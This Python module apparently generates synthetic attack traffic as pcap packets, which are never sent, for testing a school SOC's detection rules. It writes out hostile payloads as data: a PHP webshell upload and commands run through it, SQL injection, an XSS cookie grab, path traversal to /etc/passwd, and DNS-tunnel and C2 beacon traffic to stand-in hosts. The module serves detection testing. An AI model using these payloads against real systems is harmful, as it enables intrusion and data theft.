"""Attack scenario packs: each scenario is real packets (scapy, never sent) with its ATT&CK techniques and the attacker's
address, so a replay through sensor → collector → detection measures what edusoc sees of it.

Every scenario is deterministic for a seed and starts at a given time; ``write_pack`` lays the chosen scenarios one
after another, each in its own time slot, into one pcap.
"""
from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import Ether
from scapy.packet import Packet, Raw
from scapy.utils import wrpcap

SLOT_SECONDS = 600.0  # each scenario gets ten minutes of its own (longer than any correlation window of the rule pack)


@dataclass(frozen=True)
class Hosts:
    """The addresses a pack uses: the red team's (whitelisted) ones and the defender's."""

    attacker: str = "198.51.100.7"  # the red team's egress address
    attacker_server: str = "198.51.100.9"  # the red team's C2 / tunnel / pool server
    web: str = "10.20.1.80"  # a school's portal (门户网站)
    server: str = "10.20.1.10"  # a school's Windows server (学籍管理)
    workstation: str = "10.20.5.23"  # a compromised lab PC that calls out


@dataclass(frozen=True)
class Scenario:
    name: str
    title: str  # Chinese first
    techniques: tuple[str, ...]  # ATT&CK technique ids
    tactic: str
    build: Callable[[Hosts, float, random.Random], list[Packet]]
    attacker_role: str = "attacker"  # which of Hosts is the red team's address in this scenario
    victim_role: str = "web"

    def attacker(self, hosts: Hosts) -> str:
        return str(getattr(hosts, self.attacker_role))

    def victim(self, hosts: Hosts) -> str:
        return str(getattr(hosts, self.victim_role))


@dataclass(frozen=True)
class PlacedScenario:
    """A scenario as written into a pack: where in time, between which addresses."""

    scenario: Scenario
    start: float  # epoch seconds of its first packet
    end: float  # epoch seconds after its last packet
    attacker: str
    victim: str
    packets: int


_MACS: dict[str, str] = {}


def _mac(ip: str) -> str:
    return _MACS.setdefault(ip, "02:00:" + ":".join(f"{int(o):02x}" for o in ip.split(".")))


def _frame(ts: float, src: str, dst: str, l4: Packet) -> Packet:
    packet = Ether(src=_mac(src), dst=_mac(dst)) / IP(src=src, dst=dst, ttl=64) / l4
    packet.time = round(ts, 6)
    return packet


def tcp_session(rng: random.Random, t: float, client: str, server: str, dport: int,
                exchanges: Sequence[tuple[bool, bytes]] = (), sport: int | None = None) -> list[Packet]:
    """A complete TCP connection: handshake, the given (from_client, data) segments in order, then FIN both ways."""
    sport = sport or rng.randint(40_000, 60_000)
    c, s = rng.getrandbits(31) + 1, rng.getrandbits(31) + 1
    frames = [
        _frame(t, client, server, TCP(sport=sport, dport=dport, flags="S", seq=c)),
        _frame(t + 0.001, server, client, TCP(sport=dport, dport=sport, flags="SA", seq=s, ack=c + 1)),
        _frame(t + 0.002, client, server, TCP(sport=sport, dport=dport, flags="A", seq=c + 1, ack=s + 1)),
    ]
    c, s, at = c + 1, s + 1, t + 0.003
    for from_client, data in exchanges:
        if from_client:
            frames.append(_frame(at, client, server, TCP(sport=sport, dport=dport, flags="PA", seq=c, ack=s) / Raw(data)))
            c += len(data)
            frames.append(_frame(at + 0.001, server, client, TCP(sport=dport, dport=sport, flags="A", seq=s, ack=c)))
        else:
            frames.append(_frame(at, server, client, TCP(sport=dport, dport=sport, flags="PA", seq=s, ack=c) / Raw(data)))
            s += len(data)
            frames.append(_frame(at + 0.001, client, server, TCP(sport=sport, dport=dport, flags="A", seq=c, ack=s)))
        at += 0.005
    frames += [
        _frame(at, client, server, TCP(sport=sport, dport=dport, flags="FA", seq=c, ack=s)),
        _frame(at + 0.001, server, client, TCP(sport=dport, dport=sport, flags="FA", seq=s, ack=c + 1)),
        _frame(at + 0.002, client, server, TCP(sport=sport, dport=dport, flags="A", seq=c + 1, ack=s + 1)),
    ]
    return frames


def http_exchange(rng: random.Random, t: float, client: str, server: str, request: bytes, status: int = 200,
                  body: bytes = b"<html><body>ok</body></html>", port: int = 80) -> list[Packet]:
    reason = {200: "OK", 302: "Found", 403: "Forbidden", 404: "Not Found"}.get(status, "OK")
    response = (f"HTTP/1.1 {status} {reason}\r\nServer: nginx\r\nContent-Type: text/html\r\n"
                f"Content-Length: {len(body)}\r\n\r\n").encode() + body
    return tcp_session(rng, t, client, server, port, [(True, request), (False, response)])


def http_get(rng: random.Random, t: float, client: str, server: str, target: str, host: str = "www.school-no1.edu.cn",
             user_agent: str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", status: int = 200) -> list[Packet]:
    request = (f"GET {target} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {user_agent}\r\nAccept: */*\r\n\r\n").encode()
    return http_exchange(rng, t, client, server, request, status)


# -- the scenarios -----------------------------------------------------------------------------------------------


def port_scan(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """nmap -sS of 200 ports in 10 s: closed ports answer RST, 80/443 SYN/ACK (the scanner resets)."""
    ports = rng.sample([p for p in range(1, 10_000) if p not in (80, 443)], 198) + [80, 443]
    rng.shuffle(ports)
    frames: list[Packet] = []
    for i, port in enumerate(ports):
        t, seq = start + i * 0.05, rng.getrandbits(31)
        frames.append(_frame(t, hosts.attacker, hosts.web, TCP(sport=54_321, dport=port, flags="S", seq=seq)))
        if port in (80, 443):
            frames.append(_frame(t + 0.001, hosts.web, hosts.attacker,
                                 TCP(sport=port, dport=54_321, flags="SA", seq=rng.getrandbits(31), ack=seq + 1)))
            frames.append(_frame(t + 0.002, hosts.attacker, hosts.web, TCP(sport=54_321, dport=port, flags="R", seq=seq + 1)))
        else:
            frames.append(_frame(t + 0.001, hosts.web, hosts.attacker, TCP(sport=port, dport=54_321, flags="RA", ack=seq + 1)))
    return frames


def _brute_force(hosts: Hosts, start: float, rng: random.Random, port: int, client_hello: bytes, server_hello: bytes,
                 attempts: int = 40) -> list[Packet]:
    frames: list[Packet] = []
    for i in range(attempts):
        frames += tcp_session(rng, start + i * 2.5, hosts.attacker, hosts.server, port,
                              [(False, server_hello), (True, client_hello), (True, rng.randbytes(96))]
                              if server_hello else [(True, client_hello), (False, rng.randbytes(40))])
    return frames


def ssh_brute_force(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """hydra against SSH: 40 logins in 100 s, each a fresh connection."""
    return _brute_force(hosts, start, rng, 22, b"SSH-2.0-libssh_0.9.6\r\n", b"SSH-2.0-OpenSSH_7.4\r\n")


def rdp_brute_force(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """crowbar against RDP: 40 X.224 connection requests in 100 s."""
    x224 = bytes.fromhex("0300002b26e00000000000436f6f6b69653a206d737473686173683d61646d696e0d0a0100080003000000")
    return _brute_force(hosts, start, rng, 3389, x224, b"")


def smb_brute_force(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """Password spraying over SMB: 40 sessions to 445 in 100 s, each an SMB2 NEGOTIATE and a failed SESSION_SETUP."""
    negotiate = b"\x00\x00\x00\x66\xfeSMB" + bytes(60) + rng.randbytes(38)
    return _brute_force(hosts, start, rng, 445, negotiate, b"")


def web_attack(target: str, user_agent: str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", repeat: int = 3
               ) -> Callable[[Hosts, float, random.Random], list[Packet]]:
    def build(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
        frames: list[Packet] = []
        for i in range(repeat):
            frames += http_get(rng, start + i * 2.0, hosts.attacker, hosts.web, target.replace("{i}", str(i)),
                               user_agent=user_agent)
        return frames
    return build


def webshell_upload(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """A PHP one-liner posted through the UEditor upload handler."""
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"upfile\"; filename=\"shell.php\"\r\n"
            f"Content-Type: image/jpeg\r\n\r\n<?php @eval($_POST['cmd']);?>\r\n--{boundary}--\r\n").encode()
    request = (f"POST /ueditor/php/controller.php?action=uploadfile&filename=shell.php HTTP/1.1\r\n"
               f"Host: www.school-no1.edu.cn\r\nUser-Agent: Mozilla/5.0\r\n"
               f"Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body
    return http_exchange(rng, start, hosts.attacker, hosts.web, request, body=b'{"state":"SUCCESS","url":"/uploads/shell.php"}')


def webshell_access(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """The uploaded shell run with a command in its query string."""
    frames: list[Packet] = []
    for i, command in enumerate(("whoami", "id", "cat%20/etc/hosts")):
        frames += http_get(rng, start + i * 3.0, hosts.attacker, hosts.web, f"/uploads/shell.php?cmd={command}")
    return frames


def _dns_queries(hosts: Hosts, start: float, rng: random.Random, names: Sequence[tuple[str, str]], gap: float
                 ) -> list[Packet]:
    frames: list[Packet] = []
    for i, (name, qtype) in enumerate(names):
        t, sport, txid = start + i * gap, rng.randint(1024, 65535), rng.getrandbits(16)
        answer = DNSRR(rrname=name, type="TXT", ttl=0, rdata=base64.b32encode(rng.randbytes(30)).decode().lower()) \
            if qtype == "TXT" else DNSRR(rrname=name, type="A", ttl=60, rdata=hosts.attacker_server)
        frames.append(_frame(t, hosts.workstation, hosts.attacker_server,
                             UDP(sport=sport, dport=53) / DNS(id=txid, rd=1, qd=DNSQR(qname=name, qtype=qtype))))
        frames.append(_frame(t + 0.02, hosts.attacker_server, hosts.workstation,
                             UDP(sport=53, dport=sport) / DNS(id=txid, qr=1, aa=1, qd=DNSQR(qname=name, qtype=qtype), an=answer)))
    return frames


def dns_tunnel(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """iodine/dnscat-style exfiltration: 40 TXT queries with a base32 label, straight to the red team's name server."""
    names = [(f"{base64.b32encode(rng.randbytes(25)).decode().lower()}.t.red-exfil.example", "TXT") for _ in range(40)]
    return _dns_queries(hosts, start, rng, names, 0.5)


def mining_pool_dns(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """A miner resolving its pool."""
    return _dns_queries(hosts, start, rng, [("pool.supportxmr.com", "A"), ("xmr.2miners.com", "A")], 1.0)


def stratum_mining(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """XMRig speaking Stratum (JSON-RPC over TCP 3333) to a pool addressed by IP: no DNS to give it away."""
    login = {"id": 1, "jsonrpc": "2.0", "method": "login",
             "params": {"login": "4" + "A" * 94, "pass": "x", "agent": "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",
                        "algo": ["rx/0", "cn/r"]}}
    job = {"id": 1, "jsonrpc": "2.0", "error": None,
           "result": {"id": "7c1f", "job": {"blob": rng.randbytes(76).hex(), "job_id": "k4b1", "target": "b88d0600",
                                            "algo": "rx/0", "seed_hash": rng.randbytes(32).hex()}, "status": "OK"}}
    exchanges: list[tuple[bool, bytes]] = [(True, json.dumps(login).encode() + b"\n"), (False, json.dumps(job).encode() + b"\n")]
    for n in range(10):
        share = {"id": n + 2, "jsonrpc": "2.0", "method": "submit",
                 "params": {"id": "7c1f", "job_id": "k4b1", "nonce": rng.randbytes(4).hex(), "result": rng.randbytes(32).hex()}}
        exchanges += [(True, json.dumps(share).encode() + b"\n"), (False, b'{"id":%d,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}\n' % (n + 2))]
    return tcp_session(rng, start, hosts.workstation, hosts.attacker_server, 3333, exchanges)


def icmp_tunnel(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """ptunnel/icmpsh: 60 echo requests and replies carrying 1000 bytes of data each."""
    frames: list[Packet] = []
    for i in range(60):
        payload = rng.randbytes(1000)
        frames.append(_frame(start + i * 0.5, hosts.workstation, hosts.attacker_server, ICMP(type=8, id=0x4242, seq=i) / Raw(payload)))
        frames.append(_frame(start + i * 0.5 + 0.03, hosts.attacker_server, hosts.workstation,
                             ICMP(type=0, id=0x4242, seq=i) / Raw(rng.randbytes(1000))))
    return frames


def c2_http_beacon(hosts: Hosts, start: float, rng: random.Random) -> list[Packet]:
    """A Cobalt-Strike-like beacon: the same GET every 30 s with an old browser's user agent, a session cookie, no Referer."""
    frames: list[Packet] = []
    for i in range(10):
        cookie = base64.b64encode(rng.randbytes(48)).decode()
        request = ("GET /updates.rss HTTP/1.1\r\nHost: cdn.red-c2.example\r\nAccept: */*\r\n"
                   f"Cookie: SESSIONID={cookie}\r\n"
                   "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)\r\n\r\n").encode()
        frames += http_exchange(rng, start + i * 30.0, hosts.workstation, hosts.attacker_server, request, body=rng.randbytes(64))
    return frames


SCENARIOS: tuple[Scenario, ...] = (
    Scenario("port_scan", "端口扫描", ("T1046",), "discovery", port_scan),
    Scenario("web_scanner", "Web 漏洞扫描器", ("T1595.002",), "reconnaissance",
             web_attack("/index.php?id={i}", user_agent="sqlmap/1.7.2#stable (https://sqlmap.org)")),
    Scenario("ssh_brute_force", "SSH 暴力破解", ("T1110.001",), "credential-access", ssh_brute_force, victim_role="server"),
    Scenario("rdp_brute_force", "RDP 暴力破解", ("T1110.001",), "credential-access", rdp_brute_force, victim_role="server"),
    Scenario("smb_brute_force", "SMB 口令喷洒", ("T1110.003",), "credential-access", smb_brute_force, victim_role="server"),
    Scenario("sql_injection", "SQL 注入", ("T1190",), "initial-access",
             web_attack("/news.php?id=1%27%20or%201=1--%20-&page={i}")),
    Scenario("xss", "跨站脚本（XSS）", ("T1189",), "initial-access",
             web_attack("/search.php?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E&p={i}")),
    Scenario("path_traversal", "目录遍历", ("T1083", "T1190"), "discovery",
             web_attack("/download.php?file=../../../../etc/passwd&n={i}")),
    Scenario("webshell_upload", "WebShell 上传", ("T1505.003", "T1190"), "persistence", webshell_upload),
    Scenario("webshell_access", "WebShell 访问", ("T1505.003",), "persistence", webshell_access),
    Scenario("dns_tunnel", "DNS 隧道", ("T1071.004", "T1048.003"), "exfiltration", dns_tunnel,
             attacker_role="attacker_server", victim_role="workstation"),
    Scenario("mining_pool_dns", "矿池域名解析", ("T1496",), "impact", mining_pool_dns,
             attacker_role="attacker_server", victim_role="workstation"),
    Scenario("stratum_mining", "Stratum 挖矿通信", ("T1496",), "impact", stratum_mining,
             attacker_role="attacker_server", victim_role="workstation"),
    Scenario("icmp_tunnel", "ICMP 隧道", ("T1095",), "command-and-control", icmp_tunnel,
             attacker_role="attacker_server", victim_role="workstation"),
    Scenario("c2_http_beacon", "HTTP C2 心跳", ("T1071.001",), "command-and-control", c2_http_beacon,
             attacker_role="attacker_server", victim_role="workstation"),
)
BY_NAME = {scenario.name: scenario for scenario in SCENARIOS}


class UnknownScenario(ValueError):
    def __init__(self, names: Sequence[str]) -> None:
        super().__init__(f"unknown scenario(s): {', '.join(names)}; known: {', '.join(BY_NAME)}")
        self.names = tuple(names)


def select_scenarios(spec: str) -> list[Scenario]:
    """``all`` or a comma-separated list of names, in the order given."""
    if spec.strip() == "all":
        return list(SCENARIOS)
    names = [name.strip() for name in spec.split(",") if name.strip()]
    unknown = [name for name in names if name not in BY_NAME]
    if unknown or not names:
        raise UnknownScenario(unknown or [spec])
    return [BY_NAME[name] for name in names]


def build_pack(scenarios: Sequence[Scenario], start: float, hosts: Hosts = Hosts(), seed: int = 20261207
               ) -> tuple[list[Packet], list[PlacedScenario]]:
    """The packets of ``scenarios`` one per time slot from ``start`` (epoch seconds), in time order."""
    packets: list[Packet] = []
    placed: list[PlacedScenario] = []
    for index, scenario in enumerate(scenarios):
        slot = start + index * SLOT_SECONDS
        frames = scenario.build(hosts, slot, random.Random(f"{seed}:{scenario.name}"))
        last = max(float(frame.time) for frame in frames)
        placed.append(PlacedScenario(scenario, slot, last + 1.0, scenario.attacker(hosts), scenario.victim(hosts), len(frames)))
        packets += frames
    packets.sort(key=lambda frame: float(frame.time))
    return packets, placed


def write_pack(path: Path, scenarios: Sequence[Scenario], start: float, hosts: Hosts = Hosts()) -> list[PlacedScenario]:
    """Write the pack to a pcap; return where each scenario lies in it."""
    packets, placed = build_pack(scenarios, start, hosts)
    wrpcap(str(path), packets)
    return placed
